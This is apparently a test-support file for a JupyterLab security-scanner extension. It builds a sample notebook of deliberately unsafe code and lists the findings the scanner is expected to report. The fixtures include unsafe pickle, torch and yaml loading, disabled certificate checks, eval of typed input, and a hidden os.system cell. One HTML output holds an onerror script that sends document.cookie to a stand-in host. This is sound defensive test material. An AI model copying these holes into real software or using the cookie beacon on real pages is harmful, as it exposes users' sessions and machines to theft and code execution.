/** A notebook with unsafe code of every kind, what is said of it, and how that is read off the page. */
import type { IJupyterLabPageFixture } from '@jupyterlab/galata';
import { finding, notebook } from './support';

export const DOWNLOAD =
  '!wget -q https://models.example.net/churn/model.pkl -O model.pkl';
const UNPICKLE =
  "import pickle\n\nwith open('model.pkl', 'rb') as file:\n    model = pickle.load(file)";
export const WEIGHTS =
  "import torch\n\nweights = torch.load('encoder.pt', weights_only=False)";
export const CONFIG =
  "import yaml\n\nwith open('config.yaml') as file:\n    config = yaml.load(file, Loader=yaml.Loader)";
export const LABELS =
  "import requests\n\nlabels = requests.get('https://data.example.net/labels.json', verify=False).json()";
export const TYPED = "ranges = eval(input('Ranges: '))";
const HIDDEN = 'import os\nos.system("sh run.sh")';
export const DEMO =
  'import gradio as gr\n\ndemo = gr.Interface(model.predict, "text", "label")\ndemo.launch(share=True)';
export const BEACON = `<img src="missing.png" onerror="fetch('https://metrics.example.net/c?d=' + document.cookie)">`;
export const CARD = `<div><b>Model card</b>\n${BEACON}\n<p>Accuracy 0.93</p></div>`;
const PROSE = 'work in progress: ask Kim about the\nfor x in )(';

export function example() {
  const content = notebook(
    DOWNLOAD,
    "import pandas as pd\n\nframe = pd.read_csv('customers.csv')",
    UNPICKLE,
    WEIGHTS,
    CONFIG,
    LABELS,
    TYPED,
    'HTML(card)',
    HIDDEN,
    DEMO,
    PROSE
  );
  content.cells[7].outputs = [
    {
      output_type: 'display_data',
      metadata: {},
      data: { 'text/html': CARD, 'text/plain': '<HTML object>' }
    }
  ];
  content.cells[8].metadata = { jupyter: { source_hidden: true } };
  return content;
}

export const PICKLE = 'Downloaded in cell 1, loaded with pickle.load in cell 3';
export const TORCH = 'torch.load runs what the file tells it to';
export const YAML = 'yaml.load without a safe loader';
export const TLS = 'Certificate check switched off';
export const EVAL = 'What is typed in is run as Python';
export const OUTPUT =
  'An onerror handler: a script that reads cookies in an output';
export const FOLDED = 'Risky code in a cell whose source is hidden';
export const GRADIO = 'Gradio app shared on a public address';

/** The panel's rows as they are read: severity, what, where. */
export function rows(page: IJupyterLabPageFixture): Promise<string[]> {
  return page.locator('.jp-Mlsecops-finding').evaluateAll(nodes =>
    nodes.map(node => {
      const text = (name: string) =>
        node.querySelector(`.jp-Mlsecops-${name}`)?.textContent;
      const severity = node
        .querySelector('.jp-Mlsecops-shape')
        ?.getAttribute('data-severity');
      return `${severity} | ${text('title')} | ${text('place')}`;
    })
  );
}

/** Open the page of the finding whose message is given. */
export async function details(page: IJupyterLabPageFixture, message: string) {
  const row = finding(page, new RegExp(message.replace(/[.()]/g, '\\$&')));
  await row.click();
  await row.getByRole('button', { name: 'Details' }).click();
  return page.locator('.jp-Mlsecops-page');
}

/** The whole notebook in the shared model. */
export function content(page: IJupyterLabPageFixture): Promise<any> {
  return page.evaluate(() => {
    const panel = window.jupyterapp.shell.currentWidget as any;
    return panel.content.model.sharedModel.toJSON();
  });
}

/** The lines of the active cell that the cursor's selection covers. */
export function selection(page: IJupyterLabPageFixture) {
  return page.evaluate(() => {
    const view = (window.jupyterapp.shell.currentWidget as any).content;
    const { editor } = view.activeCell;
    const { start, end } = editor.getSelection();
    return [
      view.activeCellIndex,
      view.activeCell.model.sharedModel
        .getSource()
        .slice(editor.getOffsetAt(start), editor.getOffsetAt(end))
    ];
  });
}
